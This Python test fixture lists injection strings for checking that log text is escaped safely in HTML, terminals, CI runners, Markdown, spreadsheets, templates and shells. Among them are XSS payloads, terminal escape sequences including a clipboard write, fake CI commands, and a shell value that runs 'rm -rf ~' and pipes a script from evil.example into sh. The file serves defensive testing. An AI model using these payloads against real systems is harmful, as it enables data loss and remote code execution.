r"""Texts that attack whoever shows them, by kind.

They are planted wherever text of a log can come from.

In: nothing. Out: names and texts. Not here: where they are planted, what must not happen
(`test_injection`).
"""

from typing import Final

_ESC: Final = "\x1b"
TEXTS: Final[dict[str, str]] = {
    # a page
    "script": "<script>alert(1)</script>", "script end": "</script><script>alert(1)</script>", "handler": '"><img src=x onerror=alert(1)>', "handler single": "' autofocus onfocus=alert(1) x='",
    "javascript": "javascript:alert(1)", "comment": "<!-- x", "comment end": "--> <b>x</b> <!--", "cdata": "]]><b>x</b>", "style end": "</style><style>*{display:none}</style>",
    "svg": "<svg/onload=alert(1)>", "svg end": "</svg></text><a xlink:href='javascript:alert(1)'>", "css": "x;background:url(https://evil.example/a);", "css break": "}*{display:none}", "iframe": "<iframe src=//evil.example>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">', "base": "<base href=https://evil.example>", "entity": "&lt;script&gt; &#60;b&#62; &amp;amp;", "form": "</main><form action=https://evil.example>",
    # a terminal
    "colour": f"{_ESC}[31mred{_ESC}[0m", "clear": f"{_ESC}[2J{_ESC}[H", "cursor": f"{_ESC}[5A{_ESC}[1Gup", "link": f"{_ESC}]8;;https://evil.example{_ESC}\\text{_ESC}]8;;{_ESC}\\",
    "long link": f"{_ESC}]8;;https://evil.example/{'a' * 400}{_ESC}\\text{_ESC}]8;;{_ESC}\\", "clipboard": f"{_ESC}]52;c;cm0gLXJmIH4=\x07", "title": f"{_ESC}]0;pwned\x07", "dcs": f'{_ESC}P$q"p{_ESC}\\',
    "apc": f"{_ESC}_Gf=24;AAAA{_ESC}\\", "query": f"{_ESC}[6n{_ESC}[c", "charset": f"{_ESC}(0lqqk", "c1": "\x9b31mx\x9b0m", "c1 osc": "\x9d0;pwned\x9c", "backspace": "rm -rf\b\b\b\b\b\bls", "return": "bad\rgood",
    "bell": "\x07\x07", "nul": "a\x00b", "vertical": "a\x0bb\x0cc", "delete": "a\x7fb", "half escape": f"x{_ESC}", "half csi": f"x{_ESC}[", "rich": "[red]x[/red] [link=https://evil.example]y[/link] :boom:",
    # a runner
    "error": "::error::pwned", "error file": "  ::error file=a.py,line=1::pwned", "mask": "::add-mask::the", "output": "::set-output name=x::y", "stop": "::stop-commands::x", "group": "::group::x", "late error": "text ::error::pwned",
    "upper": "::ERROR::pwned", "old": "##[error]pwned", "old env": "text ##[set-env name=PATH;]x", "azure": "##vso[task.setvariable variable=x]y", "teamcity": "##teamcity[buildStatus text='x']", "percent": "%0A::error::x %25",
    # a comment
    "image": "![x](https://evil.example/a.png)", "md link": "[click](javascript:alert(1))", "reference": "[x][1]\n\n[1]: https://evil.example", "autolink": "<https://evil.example>", "bare": "https://evil.example/x", "www": "www.evil.example",
    "mail": "mallory@evil.example", "mention": "@alice @octo/team", "issue": "#123", "gh": "GH-1", "other": "owner/repo#1", "commit": "0c1f9ab4d2e70c1f9ab4d2e70c1f9ab4d2e7ab12", "at commit": "owner/repo@0c1f9ab4d2e7", "emoji": ":boom: :+1:",
    "details": "</details><details open><summary>x</summary>", "fence": "```", "fences": "``` ```` ````` ~~~ ~~~~", "long fence": "`" * 40, "fence lines": "x\n```\n# y\n~~~\n", "heading": "# x", "quote": "> [!WARNING]\n> x", "list": "- [x] a", "rule": "***",
    "table": "| a | b |\n| - | - |\n| <b>x</b> | y |", "emphasis": "**a** _b_ ~~c~~", "maths": "$\\text{x}$ $$y$$", "md html": "<h1>x</h1><img src=https://evil.example/a.png>", "footnote": "[^1]\n\n[^1]: x", "backslash": "\\", "hard break": "a  \nb\\\nc",
    # a sheet, a template, a parser, a shell
    "sheet": "=cmd|'/c calc'!A0", "sheet plus": "+1+1", "sheet minus": "-2+3", "sheet at": "@SUM(1)", "jinja": "{{ 7*7 }} {% include 'x' %} {# x #}", "shell template": "${HOME} $(id) `id`", "percent s": "%s %d %(x)s", "braces": "{0} {x} {0!r}",
    "json": '", "x": {"y": ["', "yaml": "a: &x [*x] !!python/object:os.system", "shell": "; rm -rf ~ && curl evil.example | sh #", "dash": "--index-url=https://evil.example", "quotes": "'; import os; os.system('id'); '", "newline": "a\nb",
    "heredoc": "EOF\nrm -rf ~\n", "space": "a b  c",
    # eyes
    "override": "\u202egnp.exe\u202c", "isolate": "\u2066a\u2067b\u2069", "marks": "\u200ea\u200fb\u061cc", "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff", "soft": "a\u00adb\u034fc", "fillers": "\u3164\u115f\uffa0x", "tags": "a\U000e0041\U000e007fb",
    "annotation": "\ufff9a\ufffab\ufffb", "breaks": "a\u2028b\u2029c\u0085d", "noncharacter": "\uffff\ufdd0\U0001fffe", "surrogate": "a\ud800b", "undecodable": "a\udcffb", "combining": "a" + "\u0301" * 60, "long": "A" * 6_000, "wide": "损" * 2_000,
    "homoglyph": "раураl",
}  # fmt: skip
